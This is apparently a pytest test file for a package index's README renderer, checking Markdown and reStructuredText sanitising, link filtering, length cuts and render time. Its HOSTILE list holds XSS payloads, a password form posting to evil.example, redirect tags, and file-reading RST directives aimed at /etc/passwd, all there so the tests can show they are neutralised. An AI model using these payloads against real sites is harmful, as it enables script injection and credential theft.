"""Descriptions, and what they must not do."""

import re
import time
from html.parser import HTMLParser

import pytest
import readme_renderer.rst
from hypothesis import given
from hypothesis import strategies as st

from ghpypi.core.site.readme import CUT, LONGEST, LONGEST_RST, render, sanitized
from ghpypi.core.site.rst import render_rst

MARKDOWN = "text/markdown; charset=UTF-8; variant=GFM"


class Tags(HTMLParser):
    """Collects the tags and their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def links(html: str) -> list[str | None]:
    return [attributes.get("href") for tag, attributes in Tags(html).found if tag == "a"]


@pytest.mark.parametrize("kind", ["text/markdown", "text/x-rst", "text/plain", "", "nonsense"])
@pytest.mark.parametrize("text", ["", " \n ", "\u202e"])
def test_nothing_is_rendered_as_nothing(text: str, kind: str) -> None:
    assert render(text, kind) == ""


@pytest.mark.parametrize(
    ("text", "kind", "html"),
    [
        ("a *b*", "text/markdown", "<p>a <em>b</em></p>\n"),
        ("~~a~~", "text/markdown; variant=GFM", "<p><del>a</del></p>\n"),
        ("~~a~~", "text/markdown; variant=CommonMark", "<p>~~a~~</p>\n"),
        ("a *b*", "text/x-rst", "<p>a <em>b</em></p>\n"),
        ("a *b*", "", "<p>a <em>b</em></p>\n"),
        ("a *b* <b>", "text/plain", '<p class="plain">a *b* &lt;b&gt;</p>'),
        ("a *b*", "nonsense", '<p class="plain">a *b*</p>'),
        ("a *b*", "image/png; variant=\x00\n", '<p class="plain">a *b*</p>'),
    ],
)
def test_each_markup_is_rendered_by_its_rules(text: str, kind: str, html: str) -> None:
    assert render(text, kind) == html
    assert sanitized(html) == html


def test_rst_with_a_fault_is_shown_as_it_is_written() -> None:
    assert render("x `y\n===\n\n.. foo:: <b>", "") == (
        '<p class="plain">x `y\n===\n\n.. foo:: &lt;b&gt;</p>'
    )


def test_rst_reads_no_files() -> None:
    html = render(".. include:: /etc/passwd\n\n.. raw:: html\n   :file: /etc/passwd\n", "")

    assert html.startswith('<p class="plain">')
    assert "root:" not in html


def test_headings_are_below_those_of_the_page() -> None:
    html = render("# a\n\n## b\n\n### c\n\n###### d\n", MARKDOWN)

    assert [tag for tag, _ in Tags(html).found if tag != "a"] == ["h3", "h4", "h5", "h6"]


def test_links_within_the_description_lead_there() -> None:
    html = render("[go](#the-end) x[^1]\n\n[^1]: note\n\n# The end\n", MARKDOWN)
    ids = {f"#{attributes['id']}" for _, attributes in Tags(html).found if "id" in attributes}

    assert len(links(html)) == 3
    assert {link for link in links(html) if link} <= ids


def test_an_id_cannot_be_that_of_our_page() -> None:
    html = render('<p id="install">x</p>', MARKDOWN)

    assert [attributes["id"] for _, attributes in Tags(html).found] == ["readme-install"]


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#x0A;script:alert(1)",
        "&#x6A;avascript:alert(1)",
        "\x01javascript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "ftp://x/y",
        "//evil.example/x",
        "docs/usage.md",
        "/simple/",
        "?q",
    ],
)
@pytest.mark.parametrize("form", ['<a href="{}">x</a>', "[x](<{}>)"])
def test_only_links_to_the_web_survive(address: str, form: str) -> None:
    assert set(links(render(form.format(address), MARKDOWN))) <= {None}


@pytest.mark.parametrize("address", ["https://x/y?a=b&c=d", "http://x", "mailto:a@b.example"])
def test_links_to_the_web_survive(address: str) -> None:
    assert links(render(f"[x]({address})", MARKDOWN)) == [address]
    assert 'rel="nofollow noopener"' in render(f"[x]({address})", MARKDOWN)


def test_an_image_is_a_link_to_it() -> None:
    assert render("![the logo](https://x/y.png)", MARKDOWN) == (
        '<p><a class="image" href="https://x/y.png" rel="nofollow noopener">the logo</a></p>\n'
    )


def test_an_image_in_a_link_is_its_text() -> None:
    html = render("[![the logo](https://x/y.png)](https://z)", MARKDOWN)

    assert html == (
        '<p><a href="https://z" rel="nofollow noopener"><span class="image">the logo</span></a>'
        "</p>\n"
    )


@pytest.mark.parametrize("address", ["data:image/png;base64,xx", "logo.png", "javascript:x"])
def test_an_image_that_browsers_cannot_fetch_is_its_text(address: str) -> None:
    assert render(f"![]({address})", MARKDOWN) == '<p><span class="image">image</span></p>\n'


def test_tasks_are_marks_and_no_controls() -> None:
    html = render("- [x] done\n- [ ] to do\n", MARKDOWN)

    assert "☑  done" in html
    assert "☐  to do" in html
    assert "input" not in html


def test_what_is_wide_can_be_scrolled_by_keyboard() -> None:
    html = render("| a |\n|---|\n| b |\n\n```python\nx = 1\n```\n", MARKDOWN)
    focusable = [tag for tag, attributes in Tags(html).found if attributes.get("tabindex") == "0"]

    assert focusable == ["div", "pre"]


def test_code_is_colored_and_notes_are_marked() -> None:
    html = render("```python\nimport x\n```\n\n> [!NOTE]\n> Hello\n", MARKDOWN)

    assert '<span class="kn">import</span>' in html
    assert '<div class="admonition note">' in html
    assert '<p class="admonition-title">Note</p>' in html


def test_no_class_of_our_page_can_be_borrowed() -> None:
    html = render(
        '<p class="banner warning">x</p><div class="panel tabs">x</div>'
        '<span class="mark wrong k">x</span><code class="copy">x</code>',
        MARKDOWN,
    )

    assert {attributes.get("class") for _, attributes in Tags(html).found} == {None, "k"}


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href=x onclick=alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=x>'>",
    "</div></section></main><script>alert(1)</script>",
    "<a href='https://x' target=_blank id=main class=skip>x</a>",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
]
ALLOWED = set(
    re.findall(
        r"\w+",
        "a abbr b blockquote br caption cite code col colgroup dd del details div dl dt em "
        "figcaption figure h3 h4 h5 h6 hr i kbd li ol p pre span strong sub summary sup table "
        "tbody td th thead tr tt ul var",
    )
)


def assert_harmless(html: str) -> None:
    assert sanitized(html) == html, "a published description stays as it is"
    for tag, attributes in Tags(html).found:
        assert tag in ALLOWED
        assert not [name for name in attributes if name.startswith("on") or name == "style"]
        assert not attributes.keys() & {"src", "srcset", "action", "target", "name", "background"}
        href = attributes.get("href") or "#readme-"
        assert href.startswith(("https://", "http://", "mailto:", "#readme-"))
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00\x1b") & set(html)


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("kind", [MARKDOWN, "text/markdown; variant=CommonMark", "", "text/plain"])
def test_what_is_hostile_does_nothing(hostile: str, kind: str) -> None:
    assert_harmless(render(f"before\n\n{hostile}\n\nafter", kind))


@given(st.lists(st.sampled_from([*HOSTILE, "\n\n", "```", "[", "](x)", "&#x202e;", "|"])))
def test_what_is_hostile_in_any_order_does_nothing(parts: list[str]) -> None:
    assert_harmless(render("".join(parts), MARKDOWN))


@pytest.mark.parametrize("form", ["{}", '<p class="plain">{}\u202e</p>', "<p>&#x202e;{}\x1b</p>"])
@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_is_hostile_in_published_html_does_nothing(hostile: str, form: str) -> None:
    assert_harmless(sanitized(form.format(hostile)))
    assert_harmless(sanitized(form.format(hostile) + CUT))


def test_direction_marks_written_as_entities_are_taken_out() -> None:
    html = render('a&#x202e;b <span title="&#x2066;">c</span> ![&#8238;d](x.png)', MARKDOWN)

    assert_harmless(html)
    assert "ab" in html


LINE = "a line of a long description\n"


@pytest.mark.parametrize("kind", ["text/markdown", "", "text/plain"])
def test_what_is_too_long_is_cut_at_a_line_and_says_so(kind: str) -> None:
    html = render(LINE * (2 * LONGEST // len(LINE)), kind)

    assert html.endswith(CUT)
    assert sanitized(html) == html
    assert len(html) < LONGEST + 1000
    assert html.removesuffix(CUT).removesuffix("\n").removesuffix("</p>").endswith(LINE.strip())


def test_what_is_too_long_and_has_no_lines_is_cut_too() -> None:
    assert len(render("x" * (LONGEST + 1), "text/plain")) < LONGEST + 200


@pytest.mark.parametrize("text", ["> " * 750_000, "<b><i>" * 250_000], ids=["quotes", "tags"])
def test_a_megabyte_of_nested_markup_is_one_paragraph_of_text(text: str) -> None:
    html = render(text, MARKDOWN)

    assert html.startswith('<p class="plain">')
    assert html.endswith(CUT)
    assert html.removesuffix(CUT).count("<") == 2


def test_long_rst_is_not_rendered() -> None:
    assert render("*a*\n\n" * LONGEST_RST, "").startswith('<p class="plain">*a*')


@pytest.mark.parametrize(
    "text",
    [
        ">" * LONGEST,
        "<div>" * (LONGEST // 5),
        "# h\n\n" * (LONGEST // 5),
        "|a" * 300 + "|\n" + "|-" * 300 + "|\n" + "|a\n" * (LONGEST // 3),
        "[" * LONGEST,
        "![" * (LONGEST // 2),
        "*a _b" * (LONGEST // 5),
    ],
    ids=["quotes", "tags", "headings", "table", "brackets", "images", "stars"],
)
def test_what_is_made_to_take_minutes_takes_seconds(text: str) -> None:
    begin = time.process_time()
    html = render(text, "text/markdown")

    assert time.process_time() - begin < 20
    assert html


def test_rst_that_breaks_its_renderer_is_shown_as_it_is_written() -> None:
    text = "".join("  " * depth + "* a\n\n" for depth in range(600))

    assert render(text, "").startswith('<p class="plain">* a\n\n  * a')


@pytest.mark.slow
def test_rst_as_long_as_is_rendered_takes_seconds() -> None:
    text = "Title\n=====\n\nA *word* and ``code``.\n\n"
    begin = time.process_time()
    html = render(text * (LONGEST_RST // len(text)), "")

    assert time.process_time() - begin < 30
    assert html.startswith("<div")


RST = {
    "headings": "One\n===\n\nTwo\n---\n\ntext\n",
    "a lone heading": 'One\n===\n\n-- *text* -- "quoted"\n',
    "fields": ":Author: A\n:Date: 2026\n\ntext a@example.org\n",
    "code": ".. code:: python\n\n    x = 1\n\n.. comment\n",
    "a role": ".. role:: python(code)\n   :language: python\n\n:python:`x`\n",
    "a default role": ".. default-role:: literal\n\n`x`\n",
    "an error": ":unknown:`x`\n",
    "raw HTML": ".. raw:: html\n\n   <b>x</b>\n",
    "a file": ".. include:: /etc/passwd\n",
    "nothing": ".. comment\n",
}


@pytest.mark.parametrize("text", RST.values(), ids=RST)
def test_rst_is_rendered_as_by_readme_renderer_whatever_was_rendered_before(text: str) -> None:
    for before in RST.values():
        render_rst(before)

    assert render_rst(text) == readme_renderer.rst.render(text)
